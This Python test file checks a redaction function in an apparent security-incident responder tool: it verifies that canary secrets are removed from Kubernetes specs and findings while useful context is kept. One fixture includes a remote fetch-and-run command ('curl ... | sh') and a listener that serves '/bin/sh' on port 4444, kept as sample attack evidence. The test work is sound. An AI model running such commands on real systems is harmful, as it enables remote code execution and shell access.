"""Evidence holds no secret values, all else, and says what was left out."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scc_responder.domain.finding import Finding, FindingFile, Process
from scc_responder.execute.evidence.redaction import redact
from scc_responder.execute.evidence.secret_text import RedactionRule
from tests.kits.journal_worlds import finding

CANARY = "canary-4f6c"
WORD = "PLANTED77"


def pod(**spec: Any) -> dict[str, Any]:
    return {"spec": {"template": {"spec": spec}}}


def container(kind: str = "containers", **fields: Any) -> dict[str, Any]:
    return pod(**{kind: [{"name": "app", **fields}]})


def activity(**fields: Any) -> Finding:
    return finding(**fields)


PLACES: dict[str, tuple[RedactionRule, Any]] = {
    "a variable": (RedactionRule.ENVIRONMENT, container(env=[{"name": "MODE", "value": CANARY}])),
    "of an init container": (
        RedactionRule.ENVIRONMENT,
        container("initContainers", env=[{"name": "A", "value": CANARY}]),
    ),
    "of an ephemeral one": (
        RedactionRule.ENVIRONMENT,
        container("ephemeralContainers", env=[{"name": "A", "value": CANARY}]),
    ),
    "a nested value": (RedactionRule.ENVIRONMENT, container(env=[{"name": "A", "value": {"deep": [CANARY]}}])),
    "a finding's variable": (
        RedactionRule.ENVIRONMENT,
        {"processes": [{"envVariables": [{"name": "A", "val": CANARY}]}]},
    ),
    "a variable in words": (RedactionRule.ENVIRONMENT, {"Environment_Variables": [f"AWS={CANARY}", CANARY]}),
    "variables of no list": (RedactionRule.ENVIRONMENT, {"env": CANARY}),
    "the applied copy": (
        RedactionRule.ANNOTATION,
        {"annotations": {"kubectl.kubernetes.io/last-applied-configuration": json.dumps({"a": CANARY})}},
    ),
    "another applier": (RedactionRule.ANNOTATION, {"annotations": {"objectset.rio.cattle.io/applied": CANARY}}),
    "an agent's annotation": (
        RedactionRule.ANNOTATION,
        {"annotations": {"vault.hashicorp.com/agent-inject-token": CANARY}},
    ),
    "a probe's header": (
        RedactionRule.HTTP_HEADER,
        container(livenessProbe={"httpGet": {"httpHeaders": [{"name": "X-Any", "value": CANARY}]}}),
    ),
    "a hook's header": (
        RedactionRule.HTTP_HEADER,
        container(lifecycle={"preStop": {"httpGet": {"httpHeaders": [{"name": "X-Any", "value": CANARY}]}}}),
    ),
    "a driver's attribute": (
        RedactionRule.VOLUME_OPTION,
        pod(volumes=[{"csi": {"driver": "x", "volumeAttributes": {"share": CANARY}}}]),
    ),
    "a driver's secret": (
        RedactionRule.VOLUME_OPTION,
        pod(volumes=[{"csi": {"nodePublishSecretRef": {"name": CANARY}}}]),
    ),
    "a flex volume": (RedactionRule.VOLUME_OPTION, pod(volumes=[{"flexVolume": {"options": {"share": CANARY}}}])),
    "a field by its name": (RedactionRule.NAMED_SECRET, {"marks": {"dbPassword": CANARY}}),
    "a command": (RedactionRule.NAMED_SECRET, container(command=["/bin/app", f"--password={CANARY}"])),
    "the next argument": (RedactionRule.NAMED_SECRET, container(args=["--api-token", f"{CANARY} and more"])),
    "arguments of a command": (RedactionRule.OPTION, container(command=["sshpass"], args=["-p", CANARY, "ssh"])),
    "a probe's command": (
        RedactionRule.OPTION,
        container(readinessProbe={"exec": {"command": ["sh", "-c", f"mysql -p{CANARY}"]}}),
    ),
    "a hook": (RedactionRule.OPTION, container(lifecycle={"postStart": {"exec": {"command": ["curl", "-u", CANARY]}}})),
    "another hook": (
        RedactionRule.OPTION,
        container(lifecycle={"preStop": {"exec": {"command": ["curl", "-u", f"bob:{CANARY}"]}}}),
    ),
    "an init command": (RedactionRule.OPAQUE_WORD, container("initContainers", command=["run", WORD])),
    "a plain argument": (RedactionRule.OPAQUE_WORD, container(args=[WORD])),
    "a variable's name": (RedactionRule.OPAQUE_WORD, container(env=[{"name": WORD}])),
    "a host's alias": (RedactionRule.OPAQUE_WORD, pod(hostAliases=[{"ip": "192.0.2.1", "hostnames": [WORD]}])),
    "an event": (RedactionRule.OPAQUE_WORD, {"items": [{"message": f"probe failed: {WORD}"}]}),
    "an event with a name": (RedactionRule.NAMED_SECRET, {"items": [{"message": f"login password={CANARY} failed"}]}),
    "a known annotation": (
        RedactionRule.NAMED_SECRET,
        {"annotations": {"kubernetes.io/change-cause": f"run --password={CANARY}"}},
    ),
    "JSON in a text": (RedactionRule.ENVIRONMENT, {"note": json.dumps({"env": [{"name": "A", "value": CANARY}]})}),
    "process arguments": (
        RedactionRule.OPTION,
        activity(processes=(Process(binary="/bin/sh", args=("sh", "-c", f"curl -u admin:{CANARY} x")),)),
    ),
    "a binary's arguments": (
        RedactionRule.OPTION,
        activity(processes=(Process(binary="sshpass", args=("-p", CANARY)),)),
    ),
    "a script": (
        RedactionRule.NAMED_SECRET,
        activity(processes=(Process(script_file=FindingFile(contents=f"export DB_PASS='{CANARY} x'")),)),
    ),
    "a binary's start": (
        RedactionRule.OPAQUE_WORD,
        activity(processes=(Process(binary_file=FindingFile(contents=WORD)),)),
    ),
    "a description": (RedactionRule.OPAQUE_WORD, activity(description=WORD)),
    "a mark": (RedactionRule.OPAQUE_WORD, activity(marks={"note": WORD})),
    "a contact": (RedactionRule.OPAQUE_WORD, activity(contacts=(f"{WORD}@example.com",))),
    "source properties": (RedactionRule.OPAQUE_WORD, {"sourceProperties": {"Process_Arguments": [WORD]}}),
    "a related finding": (RedactionRule.URL_USER, [{"description": f"https://bob:{CANARY}@example.com"}]),
    "a node": (RedactionRule.ANNOTATION, {"metadata": {"annotations": {"example.com/join": CANARY}}}),
    "variables in small letters": (RedactionRule.ENVIRONMENT, {"environment_variables": [f"A={CANARY}"]}),
    "an environment": (RedactionRule.ENVIRONMENT, {"process": {"environ": f"A={CANARY}"}}),
    "an environment in a text": (RedactionRule.ENVIRONMENT, {"processEnv": json.dumps({"A": CANARY})}),
    "arguments in a text": (RedactionRule.NAMED_SECRET, {"note": json.dumps(["--password", CANARY])}),
    "a line of words": (RedactionRule.NAMED_SECRET, {"commandLine": ["app", "--password", CANARY]}),
    "options in any list": (RedactionRule.NAMED_SECRET, {"Process_Creation": ["app", "--password", CANARY]}),
    "a value beside its name": (RedactionRule.NAMED_SECRET, {"parameters": [{"name": "apiToken", "value": CANARY}]}),
    "a value beside its key": (RedactionRule.NAMED_SECRET, {"items": [{"key": "password", "value": CANARY}]}),
    "several of a name": (RedactionRule.NAMED_SECRET, {"tokens": [CANARY, CANARY]}),
    "within a field by its name": (RedactionRule.NAMED_SECRET, {"credentials": {"user": CANARY}}),
    "the name of a field": (RedactionRule.NAMED_SECRET, {"managedFields": {f'v:"--password={CANARY}"': {}}}),
    "a known annotation by its name": (
        RedactionRule.ANNOTATION,
        {"annotations": {"prometheus.io/param_token": CANARY}},
    ),
    "what is written into a Secret": (RedactionRule.VOLUME_OPTION, {"stringData": {"a": CANARY}}),
    "a long text": (RedactionRule.TOO_LONG, {"message": CANARY * 40_000}),
}


@pytest.mark.parametrize(("rule", "item"), list(PLACES.values()), ids=list(PLACES))
def test_no_secret_stays_in_a_place_where_secrets_stand(rule: RedactionRule, item: Any) -> None:
    """Evidence is read by more people than secrets are."""
    kept = redact(item)
    text = json.dumps(kept.content)
    assert CANARY not in text
    assert WORD not in text
    assert rule in {each.rule for each in kept.redactions}


def test_what_was_left_out_is_listed_by_place() -> None:
    """A reader sees that something stood there."""
    annotated = {"annotations": {"a.example/b": "x"}, **container(env=[{"name": "A", "value": "x"}])}
    assert [(each.path, each.rule) for each in redact(annotated).redactions] == [
        ('$.annotations["a.example/b"]', RedactionRule.ANNOTATION),
        ("$.spec.template.spec.containers[0].env[0].value", RedactionRule.ENVIRONMENT),
    ]


def test_what_tells_the_story_is_kept() -> None:
    """Names of variables, where values come from, images, identities, commands and their harmless arguments."""
    app = {
        "name": "app",
        "image": "example.com/App2Server/X9Y8Z7W6:V1Beta22",
        "imageID": "example.com/app@sha256:" + "0a" * 32,
        "command": ["sh", "-c", "curl -s 192.0.2.1/x.sh | sh"],
        "args": ["-lvp", "4444", "-e", "/bin/sh", "--user", "1000:1000", "--token-file=/run/token"],
        "env": [{"name": "HOME"}, {"name": "KEY", "valueFrom": {"secretKeyRef": {"name": "keys", "key": "k"}}}, {}],
    }
    metadata = {
        "uid": "7C9E6679-7425-40DE-944B-E07FC1F90AE7",
        "annotations": {"scc-responder/case": "0a", "kubernetes.io/config.hash": "ab12"},
        "labels": {"env": "prod", "environment": "staging", "app": "token-service"},
        "managedFields": [{"fieldsV1": {"f:env": {'k:{"name":"DB_PASSWORD"}': {".": {}, "f:valueFrom": {}}}}}],
        "creationTimestamp": "2026-03-01T12:00:00Z",
    }
    token = {"path": "t", "audience": "a", "expirationSeconds": 3607}
    secret = {"secretName": "keys", "defaultMode": 420, "items": [{"key": "password", "path": "p"}]}
    volumes = [{"secret": secret}, {"projected": {"sources": [{"serviceAccountToken": token}]}}]
    taints = [{"key": "token", "value": "x", "effect": "NoSchedule"}]
    item = {
        "metadata": metadata,
        "spec": {"containers": [app], "volumes": volumes, "automountServiceAccountToken": True, "taints": taints},
        "notificationConfigName": "organizations/1/locations/global/notificationConfigs/Threats2",
        "links": ["https://example.com/a;name=organizations%2F1%2Fsources%2F11111111%2Ffindings%2F7ccd6aa9"],
    }
    kept = redact(item)
    assert (kept.content, kept.redactions) == (item, ())


def test_an_object_nested_without_end_is_cut() -> None:
    """An owner can be of any shape."""
    item: dict[str, Any] = {}
    for _ in range(500):
        item = {"spec": item, "list": [1]}
    assert "left_out_too_deep" in json.dumps(redact(item).content)


def _listed(text: str) -> list[Any]:
    """The same text in every kind of place that always holds secrets, and beside names that say so."""
    return [
        {"env": [{"name": "A", "value": text}]},
        {"annotations": {"example.com/a": text}},
        {"httpHeaders": [{"name": "A", "value": text}]},
        {"csi": {"volumeAttributes": {"a": text}}},
        {"flexVolume": {"options": {"a": text}}},
        {"password": text},
        {"command": ["app", "--password", text]},
        {"command": ["app", f"--password={text}"]},
        {"args": [json.dumps({"env": [{"name": "A", "value": text}]})]},
        {"note": base64.b64encode(f"password={CANARY}".encode()).decode()},
    ]


@settings(max_examples=60, deadline=None)
@given(before=st.text(max_size=8), after=st.text(max_size=8))
def test_a_canary_at_any_position_of_a_value_is_never_kept(before: str, after: str) -> None:
    """Whatever stands around it."""
    lead = before.removeprefix("--").strip()
    kept = json.dumps([redact(item).content for item in _listed(f"{lead}{CANARY}{after}")], ensure_ascii=False)
    assert CANARY not in kept
    assert base64.b64encode(f"password={CANARY}".encode()).decode() not in kept
